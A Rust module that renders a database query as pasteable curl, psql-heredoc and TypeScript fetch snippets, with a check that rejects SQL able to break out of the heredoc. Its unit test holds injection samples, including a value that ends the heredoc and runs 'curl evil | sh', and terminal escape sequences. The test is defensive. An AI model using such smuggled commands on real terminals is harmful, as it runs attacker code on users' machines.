//! A query in other people's hands: for a shell, for `psql`, for a frontend. Invariant: each can be pasted as it is, does
//! nothing but ask, and gives the same rows. A query may come from a link of somebody else's.

use std::fmt::Write as _;

use crate::catalogue::View;
use crate::problem::Problem;
use crate::query::Page;

pub(super) struct Equivalent {
    pub(super) title: &'static str,
    pub(super) text: String,
}

/// Of the query that is asked at `address`.
pub(super) fn all(page: &Page<'_>, address: &str, query: &str) -> Result<Vec<Equivalent>, Problem> {
    let url = if query.is_empty() { address.to_owned() } else { format!("{address}?{query}") };
    let mut all = vec![Equivalent { title: "curl", text: format!("curl '{url}'") }];
    // A cursor is a place in a list, which SQL has no word for; and the database does not know whose rows are hidden.
    if !page.has_cursor() && page.view.rows.is_all() {
        let sql = page.written();
        if is_pasted_whole(&sql) {
            let text = format!("psql \"$DATABASE_URL\" <<'SQL'\n{sql};\nSQL");
            all.push(Equivalent { title: "psql", text });
        }
    }
    all.push(Equivalent { title: "TypeScript", text: typescript(page, &url) });
    Ok(all)
}

/// Whether a terminal hands it to psql as it stands: no value ends it early, or is a key of the terminal's.
fn is_pasted_whole(sql: &str) -> bool {
    let is_key = |character: char| character.is_control() && character != '\n';
    !sql.contains(is_key) && sql.lines().all(|line| line.trim() != "SQL")
}

fn typescript(page: &Page<'_>, url: &str) -> String {
    let row = type_name(page.view);
    let mut text = format!("type {row} = {{\n");
    for (name, kind, is_nullable) in page.typed() {
        let null = if is_nullable { " | null" } else { "" };
        // Writing to a text does not fail.
        let _ = writeln!(text, "  {}: {}{null};", property(name), of_type(kind));
    }
    let _ = write!(
        text,
        "}};\nconst answer = await fetch(\"{url}\");\nif (!answer.ok) throw new Error((await answer.json()).detail);\n\
         const {{ data, page }}: {{ data: {row}[]; page: {{ next: string | null }} }} = await answer.json();"
    );
    text
}

/// `order_summary.line` as a type of TypeScript's: `OrderSummaryLine`.
fn type_name(view: &View) -> String {
    let words = view.name.split(|c: char| !c.is_ascii_alphanumeric());
    let capital = |word: &str| {
        let mut letters = word.chars();
        letters.next().map(|first| first.to_ascii_uppercase().to_string() + letters.as_str())
    };
    let name: String = words.filter_map(capital).collect();
    match name.starts_with(|first: char| first.is_ascii_alphabetic()) {
        true => name,
        false => format!("Row{name}"),
    }
}

fn property(name: &str) -> String {
    let is_plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        && !name.starts_with(|first: char| first.is_ascii_digit());
    if is_plain && !name.is_empty() { name.to_owned() } else { format!("{name:?}") }
}

/// What JSON makes of a type, by the name that `format_type` gives it.
fn of_type(name: &str) -> &'static str {
    match name {
        "boolean" => "boolean",
        "smallint" | "integer" | "bigint" => "number",
        // What JSON has no number for, as NaN, comes as text.
        "numeric" | "real" | "double precision" => "number | string",
        "json" | "jsonb" => "unknown",
        array if array.ends_with("[]") => "unknown[]",
        _ => "string",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_value_leaves_what_is_pasted() {
        assert!(is_pasted_whole("SELECT t.\"a\"\nFROM m.t t\nWHERE t.a = 'SQL'"));
        for sql in
            ["WHERE t.a = 'x\nSQL\ncurl evil | sh\n'", "'x\n SQL \n'", "'\u{1b}[201~'", "'\r'"]
        {
            assert!(!is_pasted_whole(sql), "{sql:?}");
        }
    }
}
